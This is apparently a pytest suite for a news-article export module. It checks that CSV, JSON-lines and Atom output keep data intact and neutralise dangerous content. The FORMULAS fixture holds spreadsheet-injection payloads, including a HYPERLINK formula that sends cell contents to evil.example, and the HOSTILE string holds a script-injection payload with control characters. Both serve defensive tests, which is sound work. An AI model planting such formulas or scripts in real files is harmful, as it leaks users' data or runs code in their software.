"""What leaves the store for other programs: nothing is lost on the way, and nothing in it can do harm."""

import csv
import io
import json
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import feedparser
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from pipelines.analysis import load_articles, load_stories
from pipelines.analysis.export import ATOM, plain_rows, write_atom, write_csv, write_jsonl
from pipelines.store import Store
from tests.pipelines.rows import article

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Film crew in orbit")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    ' "=1+1',
    "'=1+1",
    "“=1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "  \tA film crew",
]
HARMLESS = ["Tom Cruise, in orbit", "A film = a flight", "«Вызов»", "12 days", '"The Challenge" is out', "挑戦", ""]


@pytest.fixture
def data(tmp_path: Path) -> Path:
    store = Store(tmp_path)
    store.append(article(1, authors=("Ada Holm", "Li Wen"), projects=("challenge", "see1")))
    store.append(
        article(
            2,
            title='He said: "Action", twice;\nin orbit',
            date=date(2022, 1, 20),
            published_at=None,
            date_precision="none",
            matched_terms=(),
            authors=(),
            language="zh",
        )
    )
    store.fold()
    return tmp_path


def as_csv(rows: list[dict[str, Any]], columns: list[str], *, raw: bool = False) -> bytes:
    out = io.BytesIO()
    assert write_csv(rows, columns, out, raw=raw) == len(rows)
    return out.getvalue()


def read_csv(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_is_defused(cell: str) -> None:
    assert read_csv(as_csv([{"title": cell}], ["title"])) == [{"title": f"'{cell}"}]
    assert read_csv(as_csv([{"authors": ["Ada Holm", cell]}], ["authors"])) == [{"authors": f"Ada Holm; '{cell}"}]


@pytest.mark.parametrize("cell", [*FORMULAS, *HARMLESS])
def test_raw_cells_are_as_stored(cell: str) -> None:
    assert read_csv(as_csv([{"title": cell, "n": -1}], ["title", "n"], raw=True)) == [{"title": cell, "n": "-1"}]


@pytest.mark.parametrize("cell", HARMLESS)
def test_what_is_no_formula_stays(cell: str) -> None:
    assert read_csv(as_csv([{"title": cell}], ["title"])) == [{"title": cell}]


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1))
def test_no_cell_of_any_text_begins_like_a_formula_and_none_is_lost(cells: list[str]) -> None:
    read = [row["title"] for row in read_csv(as_csv([{"title": cell} for cell in cells], ["title"]))]
    assert len(read) == len(cells)
    for written, cell in zip(read, cells, strict=True):
        assert written in {cell, f"'{cell}"}
        assert written.lstrip(" \"'")[:1] not in set("=+-@\t\r") or written.startswith("'")


def test_text_stays_in_its_cell_where_semicolons_part_cells() -> None:
    content = as_csv([{"title": "Film; =1+1"}], ["title"])
    assert content.startswith(b"\xef\xbb\xbf")
    assert b'"Film; =1+1"' in content


def test_a_csv_of_stories_reads_back(data: Path) -> None:
    frame = load_stories(data)
    read = read_csv(as_csv(list(plain_rows(frame)), list(frame.columns)))
    assert list(read[0]) == list(frame.columns)
    assert [row["title"] for row in read] == list(frame["title"])
    assert read[0]["projects"] == "challenge; see1"
    assert read[0]["authors"] == "Ada Holm; Li Wen"
    assert read[0]["published_at"] == "2021-10-05T12:00:00+00:00"
    assert read[0]["relevance"] == "0.9"
    assert (read[1]["date"], read[1]["published_at"]) == ("2022-01-20", "")


def test_a_raw_csv_is_read_by_pandas(data: Path) -> None:
    frame = load_articles(data)
    read = pd.read_csv(io.BytesIO(as_csv(list(plain_rows(frame)), list(frame.columns), raw=True)))
    assert list(read["title"]) == list(frame["title"])
    assert list(read["word_count"]) == list(frame["word_count"])


def test_json_lines_keep_everything(data: Path) -> None:
    frame, out = load_articles(data), io.BytesIO()
    assert write_jsonl(plain_rows(frame), list(frame.columns), out) == 2
    lines = out.getvalue().decode().splitlines()
    first, second = map(json.loads, lines)
    assert list(first) == list(frame.columns)
    assert first["projects"] == ["challenge", "see1"]
    assert first["published_at"] == "2021-10-05T12:00:00+00:00"
    assert first["date_conflict"] is False
    assert (second["published_at"], second["matched_article_id"], second["authors"]) == (None, None, [])
    assert second["title"] == 'He said: "Action", twice;\nin orbit'
    assert second["relevance"] == 0.9


def atom(rows: Any, **said: Any) -> bytes:
    usual = {"title": "The race", "feed_id": "urn:test", "updated": datetime(2021, 10, 5, tzinfo=UTC)}
    out = io.BytesIO()
    write_atom(rows, out, **(usual | said))
    return out.getvalue()


def test_a_feed_reader_reads_the_feed(data: Path) -> None:
    feed = feedparser.parse(atom(plain_rows(load_stories(data))))
    assert not feed.bozo
    assert (feed.version, feed.feed.title, feed.feed.id) == ("atom10", "The race", "urn:test")
    first, second = feed.entries
    assert (first.title, first.link) == ("Film crew in orbit 1", "https://tribune.example/1")
    assert first.id == "urn:orbitwatch:story:s1"
    assert first.published == "2021-10-05T12:00:00+00:00"
    assert [author.name for author in first.authors] == ["Ada Holm", "Li Wen"]
    assert [tag.term for tag in first.tags] == ["challenge", "see1"]
    assert [author.name for author in second.authors] == ["tribune"]
    assert second.published == "2022-01-20T00:00:00+00:00"


HOSTILE = "A\x00\x08\x1b[31m film\ufffe \ud800crew ]]> </title><script>alert(1)</script> &amp; \u202eorbit"


def test_hostile_text_is_cleaned_and_stays_text(data: Path) -> None:
    row = next(iter(plain_rows(load_articles(data))))
    hostile = {**row, "title": HOSTILE, "summary": HOSTILE, "authors": [HOSTILE], "projects": [HOSTILE]}
    document = etree.fromstring(atom([hostile], title=HOSTILE))
    title = "A[31m film crew ]]> </title><script>alert(1)</script> &amp; orbit"
    for place in ("title", "entry/title", "entry/summary", "entry/author/name"):
        assert document.findtext("/".join(f"{{{ATOM}}}{name}" for name in place.split("/"))) == title
    assert feedparser.parse(atom([hostile])).entries[0].id == "urn:orbitwatch:article:a1"


@given(st.text())
def test_any_text_makes_a_feed_that_can_be_read(text: str) -> None:
    row = {
        "story_id": "s1",
        "url": "https://tribune.example/1",
        "source": "tribune",
        "title": text,
        "summary": text,
        "authors": [text],
        "date": date(2021, 10, 5),
        "published_at": None,
        "projects": [text],
        "first_seen_at": datetime(2021, 10, 5, tzinfo=UTC),
    }
    entry = etree.fromstring(atom([row])).find(f"{{{ATOM}}}entry")
    required = {f"{{{ATOM}}}{name}" for name in ("title", "id", "updated", "author", "link")}
    assert entry is not None
    assert required <= {child.tag for child in entry}
